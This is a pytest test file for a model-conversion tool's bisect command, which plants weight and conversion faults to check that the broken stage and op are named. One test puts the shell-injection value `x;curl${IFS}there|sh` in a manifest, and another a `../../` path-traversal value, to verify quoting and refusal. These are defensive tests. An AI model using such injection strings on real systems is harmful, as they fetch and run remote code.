"""`convert bisect FOLDER`: the stage that broke a model is named, and the op in it; faults are planted in each."""

import io
import json
import shlex
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from shutil import copytree
from typing import Any, cast

import numpy as np
import onnx
import pytest
from onnx import numpy_helper
from rich.console import Console
from torch import Tensor, nn

from convert import manifest as manifests
from convert import suggestion as suggestion_module
from convert.again import AbsentError, request_of, settled_again
from convert.broken import Break, breaks
from convert.folder import listing
from convert.progress import steps
from convert.stage_report import exit_code, suggestion, text, told, verdict
from convert.stages import Stage, Stages, stages
from convert.subject import settle
from convert.suggestion import suggestions
from exporters.coreml.convert import Converted
from exporters.lowering import REWRITES
from recipes.base.checkpoint import sha256
from recipes.base.errors import UserError
from recipes.base.tensor import Tolerance
from validators.compare import Sampled, compare
from validators.results import Check

Convert = Callable[..., Any]
AGREE = ["faithful", "lowered", "exported", "simplified"]
PACKAGE = ["model.mlpackage, executor-float32", "model.mlpackage, executor"]


@pytest.fixture(scope="module")
def made(convert: Convert, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A mel spectrogram, named and made of numbers as a user likes, whose every stage is right."""
    folder = tmp_path_factory.mktemp("stages") / "made"
    words = ["--to", "coreml", "--seconds", "1", "--set", "n_mels=20", "--output-name", "bands", "--opset", "18"]
    said = convert("recipe", "mel_whisper80", *words, "-o", folder)
    assert said.exit_code == 0, said.stdout + said.stderr
    return folder


@pytest.fixture(scope="module")
def exported(made: Path) -> bytes:
    """What the exporter gives of that folder's model."""
    import exporters.onnx.export

    given: list[onnx.ModelProto] = []
    export = exporters.onnx.export.export
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("exporters.onnx.export.export", lambda *words: given.append(export(*words)) or given[-1])
        assert _stages(made)[1] == []
    return given[0].SerializeToString()


@pytest.fixture
def quick(exported: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """The export takes most of the time; this one gives what it gave."""
    monkeypatch.setattr("exporters.onnx.export.export", lambda *_: onnx.load_from_string(exported))


@pytest.fixture
def folder(made: Path, tmp_path: Path) -> Path:
    return copytree(made, tmp_path / "made")


def _stages(folder: Path, **words: Any) -> tuple[Stages, list[Break]]:
    found = stages(folder, steps(False), **{"run_code": False, **words})
    return found, breaks(found, steps(False))


def _only(found: tuple[Stages, list[Break]]) -> Break:
    (wrong,) = found[1]
    assert exit_code(found[0]) == 1
    return wrong


def _relisted(folder: Path) -> None:
    """The manifest says that its files are as they are."""
    manifests.write(replace(manifests.read(folder), files=listing(folder)), folder)


def _harmed(model: onnx.ModelProto) -> onnx.ModelProto:
    """With other numbers in its last matrix, so that one op is wrong, whose result is called so."""
    model = onnx.load_from_string(model.SerializeToString())
    weights = {one.name: one for one in model.graph.initializer}
    node = [one for one in model.graph.node if one.op_type == "MatMul" and set(one.input) & weights.keys()][-1]
    (name,) = set(node.input) & weights.keys()
    weights[name].CopyFrom(numpy_helper.from_array(numpy_helper.to_array(weights[name]) * 2, name))
    return model


def _culprit(wrong: Break) -> str:
    assert wrong.divergence is not None
    assert wrong.divergence.culprit is not None
    return wrong.divergence.culprit.kind


@pytest.mark.usefixtures("quick")
def test_all_stages_of_a_good_folder_agree(convert: Convert, made: Path, tmp_path: Path) -> None:
    said = convert("bisect", made, "--json", "--markdown", tmp_path / "page.md", "--html", tmp_path / "page.html")
    assert (said.exit_code, said.stderr) == (0, "")
    for page in (tmp_path / "page.md", tmp_path / "page.html"):
        assert "AGREE: 8 stages, faithful to model.mlpackage, executor" in page.read_text(encoding="utf-8").replace(
            "\\", ""
        )
    answer = json.loads(said.stdout)
    status = {stage["name"]: stage["status"] for stage in answer["stages"]}
    assert [name for name, one in status.items() if one == "passed"] == [
        *AGREE,
        "model.onnx, onnxruntime",
        "model.onnx, tract",
        *PACKAGE,
    ]
    assert answer["broken"] == []
    assert answer["verdict"].startswith("AGREE: 8 stages, faithful to model.mlpackage, executor")
    made_of = {stage["name"]: stage["of"] for stage in answer["stages"]}
    assert (made_of["exported"], made_of["model.onnx, tract"]) == ("lowered", "model.onnx, onnxruntime")
    assert all(
        stage["worst"]["comparison"]["worst_expected"] for stage in answer["stages"] if stage["status"] == "passed"
    )


def test_a_line_of_the_table_fits_into_80_columns_and_nothing_of_it_is_cut(made: Path) -> None:
    wrong = compare(
        Sampled.of(np.ones(2)), np.array([1, 1.5]), Tolerance(atol=0.0002, rtol=0.0, reason="of this test"), "feature"
    )
    check = Check("", "c", "fp32", "full_scale_tone", "clipwise_output", "values", "failed", "", wrong)
    names = ("faithful", "c.melspec/tag-x86_64-linux-musl, c", "c.melspec/tag-aarch64-linux-musl, c")
    of = (replace(check, status="passed"),), (check,), ()
    found = tuple(Stage(name, "the file", None, checks, ()) for name, checks in zip(names, of, strict=True))
    page = io.StringIO()
    shown = text(Stages(made, manifests.read(made), found), [Break(names[1], "the file", ("faithful",), check)])
    Console(width=80, file=page).print(shown)
    lines = [line.split() for line in page.getvalue().splitlines()]
    assert lines[0] == ["stage", "status", "worst", "at", "atol", "passes", "at"]
    figures = ["clipwise_output", "0.0002", "5.00e-01"]
    assert ["faithful", "agrees", *figures] in lines
    assert lines.count(["c"]) == 1
    assert ["c.melspec/tag-x86_64-linux-musl,", "c", "BROKEN", *figures] in lines
    assert ["c.melspec/tag-aarch64-linux-musl,", "NOT", "VERIFIED", "-", "-"] in lines


@pytest.mark.usefixtures("quick")
def test_a_rewrite_that_is_wrong_is_the_lowering(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def wrong(graph: Any) -> Iterator[str]:
        for module in graph.modules():
            if isinstance(module, nn.Conv1d):
                module.weight = nn.Parameter(module.weight * 1.1, requires_grad=False)
                yield "here"

    monkeypatch.setitem(cast("Any", REWRITES), "carry-axes", wrong)
    broken = _only(_stages(folder))
    assert (broken.stage, broken.by, broken.agree) == ("lowered", "the lowering", ("faithful",))
    assert "with the rewrite carry-axes answers are over their tolerance" in broken.why[0]


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize(
    ("function", "stage", "by", "agree"),
    [
        ("exporters.onnx.export.export", "exported", "the export", AGREE[:2]),
        ("exporters.onnx.simplify.simplify", "simplified", "the simplifier", AGREE[:3]),
    ],
)
def test_the_step_to_onnx_that_is_wrong_is_named_and_the_op(
    folder: Path, monkeypatch: pytest.MonkeyPatch, function: str, stage: str, by: str, agree: list[str]
) -> None:
    import exporters.onnx.export
    import exporters.onnx.simplify

    right = {"exported": exporters.onnx.export.export, "simplified": exporters.onnx.simplify.simplify}[stage]
    monkeypatch.setattr(function, lambda *words: _harmed(right(*words)))
    found = _stages(folder)
    broken = _only(found)
    assert (broken.stage, broken.by, list(broken.agree)) == (stage, by, agree)
    assert _culprit(broken) == "MatMul"
    assert told(broken).startswith(f"{by} broke it: bands is off by ")
    assert told(broken).endswith(f"{' and '.join([', '.join(agree[:-1]), agree[-1]])} agree")
    # What comes of it is wrong as well, and is not named.
    status = {one.name: one.status for one in found[0].stages}
    assert status["simplified"] == "failed"
    assert status["model.onnx, onnxruntime"] == "passed"


@pytest.mark.usefixtures("quick")
def test_a_file_that_was_changed_is_told_from_what_makes_it(convert: Convert, folder: Path) -> None:
    path = folder / "model.onnx"
    onnx.save(_harmed(onnx.load(path)), path)
    said = convert("bisect", folder)
    assert said.exit_code == 2
    assert "model.onnx is not the file that was made" in said.stderr
    _relisted(folder)
    found = _stages(folder)
    broken = _only(found)
    assert (broken.stage, broken.by) == ("model.onnx, onnxruntime", "the file model.onnx itself")
    assert list(broken.agree) == AGREE
    assert _culprit(broken) == "MatMul"
    assert broken.held_to == "model.onnx, made again"
    assert verdict(*found).startswith(
        "BROKEN at model.onnx, onnxruntime: the file model.onnx itself broke it: bands is"
    )


@pytest.mark.usefixtures("quick")
def test_a_package_that_was_changed_is_told_from_what_makes_it(folder: Path) -> None:
    path = folder / "model.mlpackage/Data/com.apple.CoreML/weights/weight.bin"
    content = bytearray(path.read_bytes())
    numbers = np.frombuffer(content, np.float32)[-1000:]
    content[-4000:] = (numbers * 2).tobytes()
    path.write_bytes(content)
    _relisted(folder)
    broken = _only(_stages(folder))
    assert (broken.stage, broken.by) == (PACKAGE[0], "the file model.mlpackage itself")
    assert broken.agree == ("faithful", "lowered")


@pytest.mark.slow
@pytest.mark.usefixtures("quick")
def test_a_wrong_conversion_to_core_ml_is_named(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import exporters.coreml.convert

    right = exporters.coreml.convert.convert

    def wrong(module: nn.Module, *words: Any, **more: Any) -> Converted:
        class Louder(nn.Module):
            def forward(self, x: Any) -> Any:
                return {name: value + 0.5 for name, value in module.model(x).items()}

        return right(type(module)(Louder(), module.names).eval(), *words, **more)

    monkeypatch.setattr("exporters.coreml.convert.convert", wrong)
    found, _ = _stages(folder)
    run = next(stage.run for stage in found.stages if stage.name == PACKAGE[0])
    assert run is not None
    assert run.job is not None
    run.file.target.make(replace(run.job, folder=folder))
    _relisted(folder)
    broken = _only(_stages(folder))
    assert (broken.stage, broken.by) == (PACKAGE[0], "the conversion to Core ML")
    assert _culprit(broken) == "add"


@pytest.mark.usefixtures("quick")
def test_another_sound_is_held_to_what_the_model_answers(folder: Path, sounds: Path) -> None:
    found, wrong = _stages(folder, on=sounds / "tone.flac")
    assert wrong == []
    assert {check.case for stage in found.stages for check in stage.checks if check.kind == "values"} <= {"tone", ""}
    with pytest.raises(UserError, match=r"short\.wav: "):
        _stages(folder, on=sounds / "none" / "short.wav")


def test_what_the_folder_was_not_made_with_is_refused(folder: Path) -> None:
    manifest = manifests.read(folder)
    with pytest.raises(UserError, match="the folder has computed weights; leave it out"):
        _stages(folder, checkpoint=folder / "model.onnx")
    (output,) = manifest.outputs
    for changed, said in (
        (replace(manifest, command="convert check made"), r"command: is no `convert recipe`"),
        (replace(manifest, outputs=(replace(output, description="another"),)), "has other inputs, outputs or"),
    ):
        manifests.write(changed, folder)
        with pytest.raises(UserError, match=said):
            _stages(folder)


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        (
            {"command": "convert recipe mn04_as --to onnx"},
            "is of mn04_as with published weights, and the folder of mel_w",
        ),
        (
            {"command": "convert recipe mn04_as --to onnx", "weights": "published", "variant": "mn10_as"},
            "is of mn04_as",
        ),
        ({"command": "convert recipe mel_whisper80 --streaming soon"}, "command: is no `convert recipe`"),
        ({"command": "convert recipe mel_whisper80 --labels"}, "command: is no `convert recipe`"),
        ({"command": "convert recipe ../../whisper80"}, "there is no recipe"),
    ],
)
def test_a_stranger_s_manifest_makes_nothing_be_fetched_or_read(
    folder: Path, monkeypatch: pytest.MonkeyPatch, changed: dict[str, str], said: str
) -> None:
    def refused(*_: Any) -> Path:
        raise AssertionError("reached for a file that the manifest names")

    monkeypatch.setattr("convert.subject.fetch", refused)
    monkeypatch.setattr("convert.again.cached", lambda _: folder / "in the cache")
    monkeypatch.setattr("convert.request.text_of", refused)
    manifests.write(replace(manifests.read(folder), **cast(Any, changed)), folder)
    with pytest.raises(UserError, match=said):
        _stages(folder)


def test_what_is_suggested_is_quoted_whatever_the_manifest_says(made: Path) -> None:
    manifest = replace(manifests.read(made), command="convert recipe pann --labels x;curl${IFS}there|sh")
    typed = shlex.split(suggestion_module._command(manifest, ["a b"]))
    assert typed == ["convert", "recipe", "pann", "--labels", "x;curl${IFS}there|sh", "--float32-op", "a b"]
    assert "'x;curl${IFS}there|sh'" in suggestion_module._command(manifest, [])


def test_files_are_held_to_the_reference_where_the_checkpoint_is_not_here(
    convert: Convert, folder: Path, synthetic_checkpoint: Path
) -> None:
    changed = replace(manifests.read(folder), weights="custom", checkpoint_file="mine.pth", checkpoint_sha256="0" * 64)
    manifests.write(changed, folder)
    said = convert("bisect", folder)
    # Nothing of what is here is wrong, and not all is here.
    assert said.exit_code == 3
    told = " ".join(said.stdout.split())
    assert "NOT VERIFIED what lies before the files: mine.pth, which the folder was made of, is not here" in told
    found, _ = _stages(folder)
    assert [stage.name for stage in found.stages if stage.status == "passed"][-2:] == PACKAGE
    with pytest.raises(UserError, match=r"mine\.pth, which the folder was made of, is not here"):
        _stages(folder, on=synthetic_checkpoint)
    with pytest.raises(UserError, match=f"is not the checkpoint that .*SHA-256 is {sha256(synthetic_checkpoint)}"):
        _stages(folder, checkpoint=synthetic_checkpoint)
    path = folder / "model.onnx"
    onnx.save(_harmed(onnx.load(path)), path)
    _relisted(folder)
    broken = _only(_stages(folder))
    assert (broken.by, broken.agree, broken.divergence) == ("the file model.onnx", ("reference.json",), None)


@pytest.mark.usefixtures("quick")
def test_rounding_is_told_from_a_fault_and_mended_by_ops_in_float32(folder: Path) -> None:
    """In float16 the floor under the logarithm of silence vanishes, and a spectrum is coarse."""
    found, _ = _stages(folder)
    run = next(stage.run for stage in found.stages if stage.name == PACKAGE[0])
    assert run is not None
    assert run.job is not None
    product = run.file.target.make(replace(run.job, folder=folder, settings={**run.job.settings, "precision": "fp16"}))
    manifest = manifests.read(folder)
    manifests.write(replace(manifest, artifacts={**manifest.artifacts, **product.artifacts}), folder)
    _relisted(folder)
    found, wrong = _stages(folder)
    broken = _only((found, wrong))
    assert (broken.stage, broken.rounding) == (PACKAGE[0], True)
    assert broken.by == "rounding to float16, already that of the weights,"
    assert broken.held_to == "model.mlpackage, made in float32"
    (advice,) = suggestions(found, wrong, steps(False))
    assert "clip_0" in advice.ops, advice.why
    assert advice.float32 == 0 < advice.kept < advice.count
    cost = f"{advice.kept} more ops in float32, {advice.kept} of {advice.count} instead of 0; above all "
    assert suggestion(advice).startswith(f"SUGGESTED for model.mlpackage: passes with {cost}")
    assert {check.status for check in advice.checks} == {"passed"}


class Louder(nn.Module):
    def __init__(self, model: nn.Module) -> None:
        super().__init__()
        self.model = model

    def forward(self, x: Tensor) -> dict[str, Tensor]:
        return {name: value + 0.5 for name, value in self.model(x).items()}


@pytest.mark.usefixtures("quick")
def test_another_version_of_the_model_is_told(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def other(*words: Any) -> Any:
        subject = settle(*words)
        return replace(subject, model=Louder(subject.model))

    monkeypatch.setattr("convert.again.settle", other)
    manifest = manifests.read(folder)
    manifests.write(replace(manifest, versions={**manifest.versions, "torch": "2.0.0"}), folder)
    broken = next(one for one in _stages(folder)[1] if one.stage == "faithful")
    assert "torch 2.0.0 there, " in told(broken)
    assert told(broken).endswith("reference.json agrees")


def test_what_was_asked_for_is_asked_for_again(made: Path) -> None:
    """All that the command said but for places, which the folder stands for."""
    manifest = manifests.read(made)
    request = request_of(made, manifest, None)
    assert set(manifest.command.split()) <= set(request.command().split())
    asked = replace(
        request,
        formats=("onnx", "coreml"),
        weights="synthetic",
        inputs=("waveform", "melspec"),
        outputs=("logits",),
        numbers=(),
        atol=("logits:0.5", "0.1"),
        input_name=None,
        output_names=("logits:scores and more",),
        lowering=False,
        streaming=4,
    )
    told = replace(manifest, command=asked.command(), weights="synthetic")
    assert request_of(made, told, None) == asked
    named = replace(asked, labels=Path("x y/labels.csv"), config=Path("numbers.yaml"), audio=(Path("a b.wav"),))
    told = replace(manifest, command=named.command(), weights="synthetic")
    again = request_of(made, told, None)
    # The numbers stand for the file, the folder's labels for the user's, and its reference for the sounds.
    assert (again.labels, again.audio, again.config) == (made / "labels.json", (), None)
    assert "n_mels=20" in again.numbers


def test_real_weights_are_those_of_the_checksum(made_pann: Any, synthetic_checkpoint: Path) -> None:
    manifest = manifests.read(made_pann.path)
    drawn = settled_again(made_pann.path, manifest)
    assert (drawn.origin.weights, drawn.origin.sha256) == ("synthetic", manifest.checkpoint_sha256)
    assert drawn.variant.outputs == manifest.outputs
    mine = replace(
        manifest,
        weights="custom",
        checkpoint_file="other.pth",
        checkpoint_sha256=sha256(synthetic_checkpoint),
        command="convert recipe pann --to coreml --checkpoint other.pth",
    )
    assert settled_again(made_pann.path, mine, synthetic_checkpoint).origin.weights == "custom"
    with pytest.raises(UserError, match="was made of other synthetic weights than this version has"):
        settled_again(made_pann.path, replace(manifest, checkpoint_sha256="0" * 64))
    with pytest.raises(AbsentError, match="or `convert recipe mobilenetv1` fetches it"):
        settled_again(made_pann.path, replace(manifest, weights="published", checkpoint_file="none.pth"))


@pytest.mark.slow
def test_a_suggestion_passes_once_it_is_typed(convert: Convert, tmp_path: Path) -> None:
    recipe = ["recipe", "pann", "--to", "coreml", "--weights", "synthetic", "--atol", "embedding:0.02"]
    assert convert(*recipe, "-o", tmp_path / "made").exit_code == 1
    said = convert("bisect", tmp_path / "made", "--suggest", "--json")
    assert said.exit_code == 1
    answer = json.loads(said.stdout)
    assert [(one["stage"], one["rounding"]) for one in answer["broken"]] == [(PACKAGE[0], True)]
    (found,) = answer["suggestions"]
    assert found["float32"] < found["kept"] < found["count"] / 2
    typed = found["command"].split()[1:]
    assert typed[-2] == "--float32-op"
    assert convert(*typed, "-o", tmp_path / "mended").exit_code == 0
    assert convert("check", tmp_path / "mended").exit_code == 0
    assert convert("bisect", tmp_path / "mended").exit_code == 0
    assert f"but for {len(found['ops'])} operations that stay float32" in (tmp_path / "mended/README.md").read_text()
